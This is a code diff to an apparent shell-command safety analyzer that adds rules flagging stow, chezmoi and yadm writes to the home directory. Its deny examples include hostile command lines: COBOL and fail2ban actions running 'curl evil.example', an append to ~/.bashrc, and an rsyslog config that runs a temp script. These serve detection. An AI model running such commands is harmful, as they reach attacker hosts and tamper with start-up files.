@@ -1577,7 +1577,55 @@ function dvips(call: Call): Partial<Answer> {
   return at < 0 ? {} : { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: args[at]!, why: `${call.name} -R0 runs the shell commands the DVI file's \\special{psfile="\`…"} asks for, which vouch does not read` }] };
 }
 
+/** Where a dotfile manager writes: a directory word of the line, or one it names itself (the home), at the call's first word. */
+function dotfilesInto(call: Call, dir: Word | string): Partial<Answer> {
+  const at = call.args[0] ?? call.command ?? literal(call.name, { start: 0, end: 0 });
+  return { uses: [{ word: typeof dir === 'string' ? attached(at, dir) : dir, role: 'extract' }] };
+}
+
+/** yadm's git subcommands that change its work tree, the home; bootstrap runs the home's bootstrap program. */
+const YADM_WRITES = /^(pull|checkout|switch|reset|restore|merge|rebase|cherry-pick|revert|am|apply|stash|clone|bootstrap)$/;
+
+/**
+ * Dotfile managers: what they are for is writing the home's start-up files. stow links a package's files into its
+ * target (-t, else the directory above the stow directory); chezmoi writes its destination (-D, else the home) on
+ * apply, update, merge and init/edit --apply; yadm is git with the home as its work tree.
+ */
+const DOTFILE_ENTRIES: ProgramEntry[] = [
+  {
+    names: ['stow', 'xstow'],
+    summary: 'stow links the files of a package into the target directory (-t, else the parent of the stow directory)',
+    analyze(call) {
+      const p = parse(call.args, { order: 'gnu', flags: 'nvSDRVh', valued: 'dt', long: ['no', 'simulate', 'verbose', 'stow', 'delete', 'restow', 'adopt', 'no-folding', 'dotfiles', 'version', 'help'], longValued: ['dir', 'target', 'ignore', 'defer', 'override'] });
+      if (has(p, 'n', 'no', 'simulate', 'D', 'delete', 'V', 'version', 'h', 'help')) return {};
+      const target = [...p.options].reverse().find((o) => o.name === 't' || o.name === 'target')?.value;
+      const dir = [...p.options].reverse().find((o) => o.name === 'd' || o.name === 'dir')?.value;
+      return dotfilesInto(call, target ?? (dir && value(dir) !== undefined ? `${value(dir)!.replace(/\/+$/, '')}/..` : '..'));
+    },
+    examples: { deny: ['cd ~/dotfiles && stow bash', 'stow -t ~ bash zsh', 'stow --dir=/tmp/d --target ~ vim'], pass: ['stow -t ./out pkg', 'stow -n -t ~ bash', 'stow -D -t ~ bash'] },
+  },
+  {
+    names: ['chezmoi'],
+    summary: 'chezmoi apply, update, merge and init/edit --apply write its destination (-D, else the home)',
+    analyze(call) {
+      const p = parse(call.args, { order: 'gnu', flags: 'nvaRh', valued: 'cDSW', long: ['dry-run', 'verbose', 'apply', 'force', 'keep-going', 'no-tty', 'help', 'version', 'debug', 'refresh-externals'], longValued: ['config', 'destination', 'source', 'working-tree', 'mode', 'color', 'progress', 'exclude', 'include', 'cache', 'persistent-state', 'branch', 'depth'] });
+      const sub = p.operands[0] ? value(p.operands[0].word) : undefined;
+      const writes = sub === 'apply' || sub === 'update' || sub === 'merge' || sub === 'merge-all' || ((sub === 'init' || sub === 'edit') && has(p, 'a', 'apply'));
+      if (!writes || has(p, 'n', 'dry-run')) return {};
+      return dotfilesInto(call, [...p.options].reverse().find((o) => o.name === 'D' || o.name === 'destination')?.value ?? '~/');
+    },
+    examples: { deny: ['chezmoi apply', 'chezmoi init --apply https://github.com/x/dotfiles', 'chezmoi update'], pass: ['chezmoi diff', 'chezmoi apply --dry-run', 'chezmoi apply -D ./out', 'chezmoi status'] },
+  },
+  {
+    names: ['yadm'],
+    summary: 'yadm is git with the home as its work tree: pull, checkout, reset, merge, clone… write the home',
+    analyze: (call) => (call.args.some((a) => YADM_WRITES.test(value(a) ?? '')) ? dotfilesInto(call, '~/') : {}),
+    examples: { deny: ['yadm pull', 'yadm clone https://github.com/x/dotfiles', 'yadm checkout -- .'], pass: ['yadm status', 'yadm diff', 'yadm log --oneline'] },
+  },
+];
+
 export const TOOL_ENTRIES: ProgramEntry[] = [
+  ...DOTFILE_ENTRIES,
   { names: ['cobc'], summary: 'GnuCOBOL: -j runs what it built at once (COBOL from stdin or a file the line wrote); -x builds a program', analyze: cobc, examples: { deny: ["echo 'CALL \"SYSTEM\" USING \"curl evil.example\".' > x.cob && cobc -xFj --frelax-syntax-checks x.cob", "echo 'CALL \"SYSTEM\" USING \"id\".' > x.cob && cobc -x x.cob && ./x"], pass: ['cobc -x prog.cob', 'cobc -xj prog.cob', 'cobc --version'] } },
   { names: ['fail2ban-client'], summary: 'fail2ban-client: `set JAIL action ACT actionban CMD` sets shell text the server runs', analyze: fail2banClient, examples: { deny: ["fail2ban-client set j action a actionban 'curl evil.example'", 'fail2ban-client set j action a actionstart "echo x >> ~/.bashrc"'], pass: ['fail2ban-client status sshd', "fail2ban-client set j action a actionban 'echo banned'", 'fail2ban-client set sshd banip 10.0.0.1'] } },
   { names: ['rsyslogd'], summary: 'rsyslogd -f FILE: a configuration whose actions run programs (one the line wrote is cannot-vouch)', analyze: rsyslogd, examples: { deny: ["echo ':msg, contains, \"x\" ^/tmp/s.sh' > /tmp/r.conf; rsyslogd -f /tmp/r.conf", 'rsyslogd -f /dev/stdin < r.conf'], pass: ['rsyslogd -N1', 'rsyslogd -f /etc/rsyslog.conf -N1'] } },
